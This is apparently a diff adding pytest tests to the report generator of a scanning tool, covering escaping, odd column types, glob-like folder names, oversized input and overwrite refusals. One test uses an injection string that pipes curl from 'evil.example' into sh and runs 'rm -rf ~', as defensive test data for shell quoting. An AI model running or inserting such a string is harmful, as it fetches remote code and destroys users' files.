@@ -1,14 +1,17 @@
 """Reports of scans, runs and grids: what they tell, that strangers' text stays text, and folders that are broken."""
 
 import base64
+import contextlib
 import dataclasses
 import hashlib
 import json
 import os
 import re
+import shlex
 import shutil
 import stat
 import subprocess
+from html import unescape
 from html.parser import HTMLParser
 
 import numpy as np
@@ -257,6 +260,28 @@ class TestGrid:
         assert all(cell in words for cell in cells["run"])
         assert all(f"{value:.4f}" in words for value in cells["T-HR@50"])
 
+    def test_a_stranger_s_name_is_no_command(self, gridded, tmp_path):
+        shutil.copytree(gridded, tmp_path / "named")
+        asked = json.loads((gridded / "grid.json").read_text())
+        asked["name"] = "x; curl evil.example | sh #\n rm -rf ~ \u202e"
+        (tmp_path / "named/grid.json").write_text(json.dumps(asked))
+        html = report(tmp_path / "named").read_text("utf-8")
+        said = re.search("<code>(.*?)</code>", html, re.DOTALL)
+        assert said is not None
+        assert shlex.split(unescape(said[1])) == ["lorec", "grid", "x; curl evil.example | sh #  rm -rf ~  .toml"]
+        assert "\u202e" not in html
+
+    def test_of_equal_defenses_the_same_one_is_named(self, gridded, tmp_path):
+        table = pl.read_parquet(gridded / "table.parquet").cast({"success removed": pl.Float64})
+        one = table.filter(pl.col("arm") == "lorec")
+        many = [one.with_columns(pl.lit(f"d{n}").alias("arm"), pl.lit(1.0).alias("success removed")) for n in range(9)]
+        shutil.copytree(gridded, tmp_path / "equal")
+        for seed in range(8):
+            pl.concat([table, *many]).sample(fraction=1, shuffle=True, seed=seed).write_parquet(
+                tmp_path / "equal/table.parquet"
+            )
+            assert "d0 removes 100%" in report(tmp_path / "equal").read_text("utf-8")
+
     def test_tells_of_a_cell_that_failed(self, gridded, tmp_path):
         shutil.copytree(gridded, tmp_path / "failed")
         for name in ("cells", "table"):
@@ -318,6 +343,40 @@ class TestBrokenFolders:
                 report(copy)
             assert not (copy / "report.html").exists()
 
+    @pytest.mark.parametrize("column", ["suspicion", "holders", "group", "weight", "reasons", "title", "item_id"])
+    @pytest.mark.parametrize("kind", [pl.List(pl.Int64), pl.Struct({"a": pl.Int64}), pl.Duration, pl.Binary, pl.Null])
+    def test_whose_columns_are_of_strange_kinds(self, scanned, tmp_path, column, kind):
+        """A page, or one clear error: never a traceback."""
+        copy = tmp_path / "odd"
+        shutil.copytree(scanned[0], copy)
+        frame = pl.read_parquet(copy / "items.parquet")
+        strange = {
+            pl.Duration: pl.duration(hours=1), pl.Binary: pl.lit(b"abc"), pl.Null: pl.lit(None),
+            pl.List(pl.Int64): pl.concat_list(pl.lit(1), pl.lit(2)), pl.Struct({"a": pl.Int64}): pl.struct(a=1),
+        }  # fmt: skip
+        frame.with_columns(strange[kind].alias(column)).write_parquet(copy / "items.parquet")
+        with contextlib.suppress(RunError):
+            report(copy)
+
+    def test_whose_names_are_patterns_are_read_themselves(self, scanned, tmp_path):
+        for name in ("a[1]", "*", "b"):
+            shutil.copytree(scanned[0], tmp_path / name)
+        users = pl.read_parquet(tmp_path / "b/users.parquet").with_columns(pl.lit("somebody").alias("user_id"))
+        users.write_parquet(tmp_path / "b/users.parquet")
+        for name in ("a[1]", "*"):
+            words = Read(report(tmp_path / name).read_text("utf-8")).words
+            assert "somebody" not in words
+            assert "<b>bot" in words
+
+    def test_that_are_too_much_for_a_page(self, scanned, tmp_path):
+        copy = tmp_path / "odd"
+        shutil.copytree(scanned[0], copy)
+        found = json.loads((copy / "findings.json").read_text())
+        found["asked"] = {f"key {n}": "<" * 300 for n in range(9_000)}
+        (copy / "findings.json").write_text(json.dumps(found))
+        with pytest.raises(RunError, match="bytes, as no folder of lorec's makes"):
+            report(copy)
+
     @pytest.mark.parametrize("way", ["axes", "table", "half"])
     def test_of_grids(self, gridded, tmp_path, way):
         shutil.copytree(gridded, tmp_path / "odd")
@@ -354,9 +413,15 @@ def test_the_command_line_says_where_the_page_is(scanned, tmp_path):
 SMALL = Table("a", {"a": ""}, [["a"]])
 
 
+def test_the_record_is_not_written_over(scanned):
+    with pytest.raises(RunError, match=r"a report inside it is called report\.html"):
+        report(scanned[0], scanned[0] / "findings.json")
+
+
 def test_nothing_but_a_file_is_written_over(scanned, tmp_path):
     os.mkfifo(tmp_path / "pipe")
-    for name, what in (("pipe", "it is no file"), (".", "it is a folder")):
+    (tmp_path / "folder").mkdir()
+    for name, what in (("pipe", "it is no file"), ("folder", "it is a folder")):
         with pytest.raises(DiskError, match=what):
             report(scanned[0], tmp_path / name)
     assert stat.S_ISFIFO((tmp_path / "pipe").stat().st_mode)
